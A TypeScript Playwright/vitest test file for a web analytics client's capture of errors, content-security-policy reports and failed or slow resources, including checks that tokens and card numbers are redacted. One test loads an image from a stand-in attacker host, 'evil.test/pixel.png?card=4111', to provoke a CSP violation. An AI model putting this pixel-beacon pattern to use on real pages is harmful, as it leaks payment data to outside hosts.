import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import type { StreamRecord } from '../../../src/protocol/event.ts';
import { meterTasks } from '../../bench/bench-page.ts';
import { recordsOf, useCaptureSite } from '../../helpers/capture-site.ts';
import { useWorld } from '../../helpers/world.ts';

const STORM = 10_000;

const world = useWorld();
const site = useCaptureSite(world, {
  '/': {
    capture: 'window.source = sources.errors()',
    head: `<script>
      function throwThree() {
        setTimeout(() => { throw new TypeError('no such basket at https://api.test/?token=secret'); });
        Promise.reject(new RangeError('too far'));
        Promise.reject({ card: '4111' });
      }
    </script>`,
  },
  '/quiet': { capture: '' },
  '/reports': {
    capture: 'sources.reports()',
    head: `<meta http-equiv="Content-Security-Policy" content="img-src data:; object-src 'none'">`,
  },
  '/blocked': {
    capture: 'sources.errors(), sources.reports()',
    head: `<meta http-equiv="Content-Security-Policy" content="connect-src 'none'">`,
  },
  '/resources': {
    capture: 'sources.resources({ slowMs: 300 })',
    body: `<img src="/missing.png?token=secret" alt=""><img src="/slow.png" alt="">
      <script src="/no-such-script.js"></script>`,
  },
  '/broken.js': { body: "throw new Error('behind the wall')", waitMs: 0 },
  '/slow.png': { body: 'no image', waitMs: 400 },
});

function propertiesOf(records: readonly StreamRecord[]): Record<string, unknown>[] {
  return records
    .filter(({ type }) => type === 'error')
    .map(({ properties }) => ({ ...properties }));
}

async function open(path: string): Promise<Page> {
  const browser = await world.profile.open();
  return browser.newPage(site.origin + path);
}

/** Raises a storm of errors. Answers how many milliseconds the page's main thread has worked. */
async function raise(page: Page): Promise<number> {
  const worked = await meterTasks(page);
  await page.evaluate(async (storm) => {
    // The page's own way to leave the console alone.
    addEventListener('error', (event) => event.preventDefault());
    for (let n = 0; n < storm; n++) {
      // Every tenth is unlike all others.
      reportError(new Error(n % 10 ? 'again' : `number ${n}`));
      if (n % 50 === 0) await new Promise((resolve) => setTimeout(resolve));
    }
  }, STORM);
  return worked();
}

describe('errors', () => {
  it('arrive with their place and their stack, once, and whatever is thrown the page goes on', async () => {
    const page = await open('/');
    await page.evaluate(async () => {
      const heard: string[] = [];
      const hear = (event: Event) => heard.push(event.type);
      addEventListener('error', hear);
      addEventListener('unhandledrejection', hear);
      (window as never as { throwThree: () => void }).throwThree();
      while (heard.length < 3) await new Promise((resolve) => setTimeout(resolve, 10));
    });
    const records = await recordsOf(world, page);

    const byKind = propertiesOf(records).sort((a, b) => `${a.name}`.localeCompare(`${b.name}`));
    expect(byKind).toMatchObject([
      { kind: 'unhandledrejection', name: 'Object' },
      {
        ...{ kind: 'unhandledrejection', name: 'RangeError', message: 'too far', handled: false },
        stack: expect.stringMatching(/^RangeError: too far\n {4}at throwThree \(http/),
      },
      {
        ...{ kind: 'error', name: 'TypeError', message: 'no such basket at https://api.test/' },
        ...{ source: `${site.origin}/`, line: expect.any(Number), column: expect.any(Number) },
        count: 1,
      },
    ]);
    expect(JSON.stringify(records)).not.toMatch(/secret|4111/);
  });

  it('of a script of another origin are marked', async () => {
    const page = await open('/');
    await page.evaluate(async (address) => {
      const failed = new Promise((resolve) => addEventListener('error', resolve));
      const script = document.createElement('script');
      script.src = address;
      document.head.append(script);
      await failed;
    }, `${site.otherOrigin}/broken.js`);

    expect(propertiesOf(await recordsOf(world, page))).toEqual([
      { kind: 'error', message: 'Script error.', crossOrigin: true, handled: false, count: 1 },
    ]);
  });

  it(`in a storm of ${STORM.toLocaleString('en')} are a handful of events, and cost the page no time that it feels`, async () => {
    const browser = await world.profile.open();
    const quiet = await browser.newPage(`${site.origin}/quiet`);
    const withoutMs = await raise(quiet);
    const page = await browser.newPage(`${site.origin}/`);
    const withMs = await raise(page);
    // What is counted is sent when the page goes, at the latest; this one comes back.
    await page.evaluate(() => {
      dispatchEvent(new Event('pagehide'));
      dispatchEvent(new Event('pageshow'));
    });
    const properties = propertiesOf(await recordsOf(world, page));

    expect(properties.length).toBeLessThan(15);
    expect(properties.reduce((sum, { count }) => sum + Number(count), 0)).toBe(STORM);
    // A thousand in one task stay under what a person notices: 50 ms.
    expect((withMs - withoutMs) / STORM).toBeLessThan(0.05);
  });

  it('that the application handles arrive where it says so', async () => {
    const page = await open('/');
    await page.evaluate(() => {
      const { source } = window as never as {
        source: { captureError: (...call: unknown[]) => void };
      };
      source.captureError(new Error('declined'), { orderId: 'A-17' });
    });

    expect(propertiesOf(await recordsOf(world, page))).toMatchObject([
      { message: 'declined', handled: true, orderId: 'A-17' },
    ]);
  });
});

describe('reports', () => {
  it('arrive of what the content security policy forbids, and of what is deprecated', async () => {
    const page = await open('/reports');
    await page.evaluate(async () => {
      const violated = new Promise((resolve) =>
        addEventListener('securitypolicyviolation', resolve),
      );
      const image = new Image();
      image.src = 'https://evil.test/pixel.png?card=4111';
      document.body.append(image);
      await violated;
      const request = new XMLHttpRequest();
      request.open('GET', '/', false);
      request.send();
      await new Promise((resolve) => setTimeout(resolve, 100));
    });
    const records = await recordsOf(world, page);

    expect(propertiesOf(records)).toMatchObject([
      { kind: 'csp-violation', name: 'img-src', message: 'https://evil.test/pixel.png' },
      { kind: 'deprecation', name: expect.any(String), message: expect.any(String) },
    ]);
    expect(JSON.stringify(records)).not.toContain('4111');
  });

  it('of the client’s own requests, where they are forbidden, make none', async () => {
    const page = await open('/blocked');
    const outcome = await page.evaluate(async () => {
      let violations = 0;
      addEventListener('securitypolicyviolation', () => violations++);
      window.client.track('Event', {});
      for (let n = 0; n < 5; n++) await window.client.flush();
      return { violations, ...(await window.client.stats()) };
    });

    expect(outcome.violations).toBeGreaterThan(0);
    expect(outcome.captured).toBe(1);
  });
});

describe('resources', () => {
  it('that did not load arrive as faults, slow ones as a metric, each once', async () => {
    const page = await open('/resources');
    await page.waitForFunction(
      () => performance.getEntriesByName(new URL('/slow.png', location.href).href).length > 0,
    );
    const records = await recordsOf(world, page);

    expect(propertiesOf(records).sort((a, b) => `${a.name}`.localeCompare(`${b.name}`))).toEqual([
      expect.objectContaining({ name: 'img', source: `${site.origin}/missing.png` }),
      expect.objectContaining({ name: 'img', source: `${site.origin}/slow.png` }),
      expect.objectContaining({ name: 'script', source: `${site.origin}/no-such-script.js` }),
    ]);
    expect(records.filter(({ type }) => type === 'metric')).toMatchObject([
      {
        event: 'Resource Duration',
        properties: { reason: 'slow', url: `${site.origin}/slow.png`, initiator: 'img' },
      },
    ]);
    expect(JSON.stringify(records)).not.toContain('secret');
  });
});
